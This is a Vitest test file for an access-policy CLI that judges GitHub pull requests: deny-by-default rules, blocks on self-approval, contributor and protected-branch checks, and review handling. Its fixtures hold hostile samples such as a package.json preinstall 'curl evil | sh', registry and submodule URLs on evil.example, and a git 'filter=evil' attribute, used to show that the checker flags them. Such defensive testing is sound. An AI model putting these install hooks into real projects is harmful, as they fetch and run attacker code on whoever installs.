import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { git } from '../helpers/git.js';
import { GithubPullServer } from '../helpers/github-server.js';
import { AT, brief, checkLocal, prBase, pullRequest, reviewsFile } from '../helpers/pull.js';

const daveGrant = { 'grants/db/dave.yaml': 'user: dave\napp: db\npermissions: [readonly, writer]\n' };

describe('deny by default: every path that is not a grant file needs a Super Admin', () => {
  it.each([
    ['package.json', '{"scripts":{"preinstall":"curl evil | sh"}}\n'],
    ['package-lock.json', '{}\n'],
    ['.npmrc', 'registry=https://evil.example/\n'],
    ['.gitattributes', 'grants/db/dave.yaml working-tree-encoding=UTF-16LE\n'],
    ['.gitmodules', '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n'],
    ['src/index.ts', 'process.exit(0)\n'],
    ['scripts/deploy.sh', 'echo secrets\n'],
    ['README.md', '# changed\n'],
    ['grants/db/README.md', 'x\n'],
  ])('a change to %s is a policy change that needs approval', async (path, content) => {
    const { dir, head } = pullRequest({ [path]: content });
    const result = await checkLocal(dir, 'dave-gh');
    expect(result.code).toBe(1);
    expect(brief(result)).toEqual([`${path} policy false`]);
    expect(result.files[0]!.reason).toMatch(
      /a policy change: needs an approval of \w{7} by a Super Admin \(alice\)/,
    );
    // An admin who is not a Super Admin cannot approve it; a Super Admin can.
    const rw = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [{ login: 'bob-gh', commit: head }]),
    });
    expect(rw.code).toBe(1);
    expect(rw.files[0]!.reviews).toEqual([
      {
        login: 'bob-gh',
        person: 'bob',
        state: 'APPROVED',
        counted: false,
        why: 'not counted: bob is not a Super Admin',
      },
    ]);
    const sa = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [{ login: 'alice-gh', commit: head }]),
    });
    expect(sa.code).toBe(0);
  });

  it('names paths exactly as git stores them, however unusual, and judges each', async () => {
    const { dir } = pullRequest({
      '.github/workflows/ü.yml': 'on: pull_request_target\n',
      'docs/with "quotes" and\ttab.md': 'x\n',
    });
    const result = await checkLocal(dir, 'dave-gh');
    expect(brief(result)).toEqual([
      '.github/workflows/ü.yml policy false',
      'docs/with "quotes" and\ttab.md policy false',
    ]);
  });

  it('exempts only what policy.exempt lists, and never grants/, schemas/, .github/ or git attributes', async () => {
    const base = {
      ...prBase,
      'grants/_settings.yaml':
        "timezone: UTC\nroles:\n  super-admin: [alice]\n  users-read-write: [bob]\npolicy:\n  exempt: ['docs/**', README.md, '**']\n",
    };
    const { dir } = pullRequest(
      {
        'README.md': '# new words\n',
        'docs/how.md': 'x\n',
        '.github/workflows/x.yml': 'on: push\n',
        'schemas/grant.schema.json': '{}\n',
        'docs/.gitattributes': '* filter=evil\n',
        ...daveGrant,
      },
      { base },
    );
    const result = await checkLocal(dir, 'dave-gh');
    expect(brief(result)).toEqual([
      '.github/workflows/x.yml policy false',
      'README.md exempt true',
      'docs/.gitattributes policy false',
      'docs/how.md exempt true',
      'grants/db/dave.yaml access-request false',
      'schemas/grant.schema.json policy false',
    ]);
  });

  it('treats a grant path that is a symbolic link, or a file turned into one, as a policy change', async () => {
    const { dir } = pullRequest(
      {},
      { links: { 'grants/db/dave.yaml': 'erin.yaml', 'grants/db/erin.yaml': '../../README.md' } },
    );
    const result = await checkLocal(dir, 'bob-gh');
    expect(brief(result)).toEqual(['grants/db/dave.yaml policy false', 'grants/db/erin.yaml policy false']);
    expect(result.files[0]!.reason).toContain('a grant path that is not a regular file');
  });

  it('judges a rename as the revocation and the grant it is', async () => {
    const { dir } = pullRequest(
      { 'grants/db/dave.yaml': 'user: dave\napp: db\npermissions: [readonly]\nend: 2027-03-01\n' },
      { remove: ['grants/db/erin.yaml'] },
    );
    expect(brief(await checkLocal(dir, 'dave-gh'))).toEqual([
      'grants/db/dave.yaml access-request false',
      'grants/db/erin.yaml revocation-request false',
    ]);
  });
});

describe('no one approves their own access', () => {
  it("does not count the grantee's approval, even as the app's approver", async () => {
    const { dir, head } = pullRequest({
      'grants/db/carol.yaml': 'user: carol\napp: db\npermissions: [writer]\n',
    });
    const own = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [{ login: 'carol-gh', commit: head }]),
    });
    expect(own.code).toBe(1);
    expect(own.files[0]!.reviews[0]).toMatchObject({
      login: 'carol-gh',
      counted: false,
      why: 'not counted: carol it is their own access',
    });
    expect(own.files[0]!.reason).toContain('(alice)');
    const other = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [{ login: 'alice-gh', commit: head }]),
    });
    expect(other.code).toBe(0);
  });

  it("makes an admin's grant to themselves an access request, while they may still revoke their own", async () => {
    const { dir, head } = pullRequest({
      'grants/db/bob.yaml': 'user: bob\napp: db\npermissions: [writer]\n',
    });
    const self = await checkLocal(dir, 'bob-gh');
    expect(brief(self)).toEqual(['grants/db/bob.yaml access-request false']);
    expect(self.files[0]!.reason).toContain('bob cannot grant their own access');
    expect(
      (await checkLocal(dir, 'bob-gh', { reviews: reviewsFile(dir, [{ login: 'carol-gh', commit: head }]) }))
        .code,
    ).toBe(0);
    const { dir: gone } = pullRequest({}, { remove: ['grants/db/erin.yaml'] });
    expect(brief(await checkLocal(gone, 'erin-gh'))).toEqual([
      'grants/db/erin.yaml revocation-request false',
    ]);
    const admin = {
      ...prBase,
      'grants/_settings.yaml':
        'timezone: UTC\nroles:\n  super-admin: [alice]\n  users-read-write: [bob, erin]\n',
    };
    const { dir: own } = pullRequest({}, { base: admin, remove: ['grants/db/erin.yaml'] });
    expect(brief(await checkLocal(own, 'erin-gh'))).toEqual(['grants/db/erin.yaml revocation true']);
  });

  it('does not let a person approve a change to their own entry in _people.yaml or their own role', async () => {
    const { dir, head } = pullRequest({
      'grants/_settings.yaml':
        'timezone: UTC\nroles:\n  super-admin: [alice, carol]\n  users-read-write: [bob]\n',
    });
    const result = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [{ login: 'alice-gh', commit: head }]),
    });
    expect(result.code).toBe(0);
    const base = {
      ...prBase,
      'grants/_settings.yaml':
        'timezone: UTC\nroles:\n  super-admin: [alice, carol]\n  users-read-write: [bob]\n',
    };
    const { dir: d2, head: h2 } = pullRequest(
      {
        'grants/_settings.yaml':
          'timezone: UTC\nroles:\n  super-admin: [alice, carol, dave]\n  users-read-write: [bob]\n',
      },
      { base },
    );
    const r2 = await checkLocal(d2, 'carol-gh', {
      reviews: reviewsFile(d2, [{ login: 'dave-gh', commit: h2 }]),
    });
    expect(r2.code).toBe(1);
    expect(r2.files[0]!.reviews[0]!.why).toBe('not counted: dave it is their own access');
  });
});

describe('every contributor counts', () => {
  it('makes a pull request an access request when anyone who pushed to it holds no admin role', async () => {
    const { dir } = pullRequest(daveGrant);
    expect(brief(await checkLocal(dir, 'bob-gh'))).toEqual(['grants/db/dave.yaml direct-grant true']);
    const pushed = await checkLocal(dir, 'bob-gh', { contributors: ['dave-gh'] });
    expect(brief(pushed)).toEqual(['grants/db/dave.yaml access-request false']);
    expect(pushed.files[0]!.reason).toContain('dave cannot grant their own access');
    const { dir: other } = pullRequest({
      'grants/db/carol.yaml': 'user: carol\napp: db\npermissions: [readonly]\n',
    });
    const mixed = await checkLocal(other, 'bob-gh', { contributors: ['erin-gh'] });
    expect(mixed.files[0]!.reason).toContain('erin-gh holds neither Super Admin nor Users Read/Write');
    // A committer cannot approve what they wrote.
    const head = git(other, ['rev-parse', 'pr']).trim();
    const approved = await checkLocal(other, 'bob-gh', {
      contributors: ['alice-gh'],
      reviews: reviewsFile(other, [{ login: 'alice-gh', commit: head }]),
    });
    expect(brief(approved)).toEqual(['grants/db/carol.yaml direct-grant true']);
  });

  it('reads contributors from the pull request commits on GitHub, and an unlinked committer names nobody', async () => {
    const server = new GithubPullServer();
    await server.start();
    try {
      const { dir, head } = pullRequest(daveGrant);
      const base = git(dir, ['rev-parse', 'main']).trim();
      const env = {
        GITHUB_TOKEN: 't',
        GITHUB_ACTIONS: 'true',
        GITHUB_REPOSITORY: 'acme/access',
        GITHUB_API_URL: server.url,
      };
      const run = async (
        commits: { sha: string; author: string | null; committer: string | null; verified?: boolean }[],
      ) => {
        server.pulls.set(5, { number: 5, author: 'bob-gh', head, base, reviews: [], commits });
        const result = await runCli(
          ['check-pr', '--repo', dir, '--pr', '5', '--format', 'json', '--at', AT],
          { env },
        );
        return JSON.parse(result.stdout) as {
          ok: boolean;
          files: { classification: string; reason: string }[];
        };
      };
      // GitHub's web editor commits as web-flow and signs what it commits.
      expect((await run([{ sha: head, author: 'bob-gh', committer: 'web-flow', verified: true }])).ok).toBe(
        true,
      );
      const pushed = await run([
        { sha: base, author: 'bob-gh', committer: 'bob-gh' },
        { sha: head, author: 'dave-gh', committer: 'dave-gh' },
      ]);
      expect(pushed.files[0]).toMatchObject({ classification: 'access-request' });
      const ghost = await run([{ sha: head, author: null, committer: null }]);
      expect(ghost.files[0]!.reason).toMatch(
        /commit \w{7}'s author someone@example.com is linked to no GitHub account/,
      );
      expect(server.errors).toEqual([]);
    } finally {
      await server.stop();
    }
  });
});

describe('only the protected branch', () => {
  it('fails a pull request into any other branch, and names the base in the status', async () => {
    const server = new GithubPullServer();
    await server.start();
    try {
      const { dir, head } = pullRequest(daveGrant);
      const base = git(dir, ['rev-parse', 'main']).trim();
      const env = {
        GITHUB_TOKEN: 't',
        GITHUB_ACTIONS: 'true',
        GITHUB_REPOSITORY: 'acme/access',
        GITHUB_API_URL: server.url,
      };
      const commits = [{ sha: head, author: 'bob-gh', committer: 'bob-gh' }];
      server.pulls.set(7, { number: 7, author: 'bob-gh', head, base, baseRef: 'evil', reviews: [], commits });
      const evil = await runCli(['check-pr', '--repo', dir, '--pr', '7', '--at', AT], { env });
      expect(evil.code).toBe(1);
      expect(evil.stdout).toContain('NO  the pull request merges into evil, not the protected branch main');
      expect(server.statuses.at(-1)).toMatchObject({ sha: head, state: 'failure' });
      expect(server.statuses.at(-1)!.description).toContain(
        'merges into evil, not the protected branch main',
      );

      server.pulls.set(8, { number: 8, author: 'bob-gh', head, base, baseRef: 'main', reviews: [], commits });
      expect((await runCli(['check-pr', '--repo', dir, '--pr', '8', '--at', AT], { env })).code).toBe(0);
      expect(server.statuses.at(-1)).toMatchObject({
        state: 'success',
        description: `access policy satisfied against main@${base.slice(0, 7)}`,
      });

      // policy.branch names another protected branch.
      const { dir: d2, head: h2 } = pullRequest(daveGrant, {
        base: {
          ...prBase,
          'grants/_settings.yaml':
            'timezone: UTC\nroles:\n  super-admin: [alice]\n  users-read-write: [bob]\npolicy: { branch: access }\n',
        },
      });
      const b2 = git(d2, ['rev-parse', 'main']).trim();
      server.pulls.set(9, {
        number: 9,
        author: 'bob-gh',
        head: h2,
        base: b2,
        baseRef: 'main',
        reviews: [],
        commits,
      });
      const missing = await runCli(['check-pr', '--repo', d2, '--pr', '9', '--at', AT], { env });
      expect(missing.stdout).toContain(
        'NO  the protected branch access (policy.branch on main) is not in this clone: fetch it',
      );
      expect(server.statuses.at(-1)).toMatchObject({ sha: h2, state: 'failure' });
      git(d2, ['branch', 'access', 'main']);
      const wrong = await runCli(['check-pr', '--repo', d2, '--pr', '9', '--at', AT], { env });
      expect(wrong.stdout).toContain('not the protected branch access');
      expect(server.errors).toEqual([]);
    } finally {
      await server.stop();
    }
  });
});

describe('approvals', () => {
  it('lets a later changes-requested or dismissal withdraw an approval, whatever commit it was on', async () => {
    const { dir, head } = pullRequest(daveGrant);
    const base = git(dir, ['rev-parse', 'main']).trim();
    const later = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [
        { login: 'carol-gh', commit: head, at: '2026-11-27T10:00:00Z' },
        { login: 'carol-gh', state: 'CHANGES_REQUESTED', commit: base, at: '2026-11-27T11:00:00Z' },
      ]),
    });
    expect(later.code).toBe(1);
    expect(later.files[0]!.reviews[0]!.why).toBe('requested changes, withdrawing an earlier approval');
    const dismissed = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [
        { login: 'carol-gh', commit: head, at: '2026-11-27T10:00:00Z' },
        { login: 'carol-gh', state: 'DISMISSED', commit: head, at: '2026-11-27T11:00:00Z' },
      ]),
    });
    expect(dismissed.code).toBe(1);
    const stale = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [{ login: 'carol-gh', commit: base }]),
    });
    expect(stale.files[0]!.reviews[0]!.why).toBe(
      `approved an older commit ${base.slice(0, 7)}, not the head`,
    );
    const comments = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [
        { login: 'carol-gh', commit: head, at: '2026-11-27T10:00:00Z' },
        { login: 'carol-gh', state: 'COMMENTED', commit: head, at: '2026-11-27T11:00:00Z' },
      ]),
    });
    expect(comments.code).toBe(0);
  });

  it('says when no one can approve: a sole Super Admin changing the policy', async () => {
    const { dir } = pullRequest({
      'grants/_settings.yaml':
        'timezone: Europe/Berlin\nroles:\n  super-admin: [alice]\n  users-read-write: [bob]\n',
    });
    const result = await checkLocal(dir, 'alice-gh');
    expect(result.files[0]!.reason).toMatch(
      /a policy change: no Super Admin can approve it other than alice, who wrote it or whose access it is; add another Super Admin/,
    );
    expect(result.files[0]!.approvers).toEqual([]);
  });

  it('lets a Users Read/Write admin approve names and emails in _people.yaml, but not logins or accounts', async () => {
    const people = prBase['grants/_people.yaml'] as string;
    const renamed = people
      .replace('name: Erin,', 'name: Erin Rossi,')
      .replace('erin@example.com', 'erin.rossi@example.com');
    const { dir, head } = pullRequest({
      'grants/_people.yaml': `${renamed}  - { id: frank, name: Frank, email: f@example.com }\n`,
    });
    const ok = await checkLocal(dir, 'dave-gh', {
      reviews: reviewsFile(dir, [{ login: 'bob-gh', commit: head }]),
    });
    expect(ok.files[0]!.reason).toBe('approved by bob');
    const relogin = people.replace(
      'accounts: { github: erin-gh }',
      'accounts: { github: erin-gh, db: postgres }',
    );
    const { dir: d2, head: h2 } = pullRequest({ 'grants/_people.yaml': relogin });
    const refused = await checkLocal(d2, 'dave-gh', {
      reviews: reviewsFile(d2, [{ login: 'bob-gh', commit: h2 }]),
    });
    expect(refused.code).toBe(1);
    expect(refused.files[0]!.reason).toContain('a policy change: needs an approval');
  });
});

describe('an approver without a GitHub login', () => {
  it('is named as the reason no one can approve, and validate warns about them', async () => {
    const base = {
      ...prBase,
      'grants/_people.yaml': (prBase['grants/_people.yaml'] as string).replace(
        ', accounts: { github: carol-gh } }',
        ' }',
      ),
    };
    const { dir } = pullRequest(daveGrant, { base });
    const result = await checkLocal(dir, 'dave-gh');
    expect(result.code).toBe(1);
    expect(result.files[0]!.reason).toContain(
      'carol has no accounts.github in _people.yaml and cannot approve on GitHub',
    );
    const validate = await runCli(['validate', '--repo', dir, '--at', AT]);
    expect(validate.stdout).toContain('grants/db/_app.yaml:6:13 warning approver-without-login');
  });
});

describe('what reviewers read', () => {
  it("shows each grant's reason and dates in the settings' time zone, and blames the seat overflow on the new grant", async () => {
    const base = {
      ...prBase,
      'grants/_settings.yaml':
        'timezone: Europe/Berlin\nroles:\n  super-admin: [alice]\n  users-read-write: [bob]\n',
      'grants/gh/_app.yaml':
        'name: GH\nconnector: { type: github, org: acme }\nentitlements:\n  - { id: eng, kind: group, team: eng }\nlicenses:\n  - { id: seat, seats: 1 }\napprovers: [carol]\n',
      'grants/gh/bob.yaml': 'user: bob\napp: gh\npermissions: [eng]\nlicense: seat\n',
    };
    const { dir } = pullRequest(
      {
        'grants/gh/dave.yaml':
          'user: dave\napp: gh\npermissions: [eng]\nlicense: seat\nstart: 2027-02-01\nend: 2027-03-01\nreason: Q1 project, ENG-9\n',
        // Takes the seat from the same instant as bob's, and sorts first: still the one blamed.
        'grants/gh/alice.yaml': 'user: alice\napp: gh\npermissions: [eng]\nlicense: seat\n',
      },
      { base },
    );
    const result = await checkLocal(dir, 'erin-gh');
    expect(result.grants).toEqual([
      { file: 'grants/gh/alice.yaml', user: 'alice', app: 'gh', permissions: ['eng'], license: 'seat' },
      {
        file: 'grants/gh/dave.yaml',
        user: 'dave',
        app: 'gh',
        permissions: ['eng'],
        license: 'seat',
        start: '2027-02-01',
        end: '2027-03-01',
        reason: 'Q1 project, ENG-9',
      },
    ]);
    expect(result.diagnostics.map((d) => `${d.file} ${d.code}`)).toEqual([
      'grants/gh/alice.yaml seats-exceeded',
      'grants/gh/dave.yaml seats-exceeded',
    ]);
    expect(result.diagnostics[0]!.message).toContain('2 grants hold it: alice with bob');
    const md = await runCli([
      'check-pr',
      '--repo',
      dir,
      '--base',
      'main',
      '--head',
      'pr',
      '--author',
      'alice-gh',
      '--format',
      'markdown',
      '--at',
      AT,
    ]);
    expect(md.stdout).toContain(
      '| dave | gh | eng, seat \\(license\\) | 2027\\-02\\-01 | 2027\\-03\\-01 | Q1 project, ENG\\-9 |',
    );
    expect(md.stdout).toContain('| 2027\\-02\\-01 | ➕ | dave | gh | eng |');
  });

  it('encodes file names in links so they can neither end the link nor mention anyone', async () => {
    const { urlPath } = await import('../../src/report/check-pr.js');
    expect(urlPath('grants/db/x)@alice-gh *y.yaml')).toBe('grants/db/x%29%40alice-gh%20%2Ay.yaml');
  });
});

describe('the sticky comment', () => {
  it("never edits someone else's comment that carries the marker, and keeps updating its own", async () => {
    const server = new GithubPullServer();
    await server.start();
    try {
      const { dir, head } = pullRequest(daveGrant);
      const base = git(dir, ['rev-parse', 'main']).trim();
      server.pulls.set(3, {
        number: 3,
        author: 'dave-gh',
        head,
        base,
        reviews: [],
        commits: [{ sha: head, author: 'dave-gh', committer: 'dave-gh' }],
      });
      server.comments.push({
        id: 1,
        issue: 3,
        body: '<!-- iden:check-pr -->\n✅ this pull request may be merged',
        author: 'dave-gh',
      });
      // A personal token: iden is whoever GitHub says the token belongs to.
      server.tokens.set('pat', { login: 'iden-bot', kind: 'user' });
      const env = { GITHUB_TOKEN: 'pat', GITHUB_REPOSITORY: 'acme/access', GITHUB_API_URL: server.url };
      const args = ['check-pr', '--repo', dir, '--pr', '3', '--comment', '--at', AT];
      expect((await runCli(args, { env })).stderr).toContain('created the iden comment');
      expect((await runCli(args, { env })).stderr).toContain('updated the iden comment');
      expect(server.comments.map((c) => `${c.id} ${c.author}`)).toEqual(['1 dave-gh', '2 iden-bot']);
      expect(server.comments[0]!.body).toContain('✅');
      expect(server.comments[1]!.body).toContain('❌ this pull request may not be merged yet');
      // A job token cannot read /user: GitHub Actions' bot is who it writes as.
      const job = { ...env, GITHUB_TOKEN: 'job', GITHUB_ACTIONS: 'true' };
      expect((await runCli(args, { env: job })).stderr).toContain('created the iden comment');
      expect((await runCli(args, { env: job })).stderr).toContain('updated the iden comment');
      expect(server.comments.map((c) => c.author)).toEqual(['dave-gh', 'iden-bot', 'github-actions[bot]']);
      expect(server.errors).toEqual([]);
    } finally {
      await server.stop();
    }
  });

  it('reports an unreachable GitHub in one line, not a stack trace', async () => {
    const server = new GithubPullServer();
    await server.start();
    try {
      const { dir } = pullRequest(daveGrant);
      server.down = 503;
      const env = { GITHUB_TOKEN: 't', GITHUB_REPOSITORY: 'acme/access', GITHUB_API_URL: server.url };
      const result = await runCli(['check-pr', '--repo', dir, '--pr', '3', '--at', AT], { env });
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(
        /^iden: reading pull request #3 of acme\/access: GitHub answered 503 to GET \/repos\/acme\/access\/pulls\/3/,
      );
      expect(result.stderr.split('\n').filter(Boolean)).toHaveLength(1);
      expect(result.stderr).not.toContain('    at ');
    } finally {
      await server.stop();
    }
  });
});
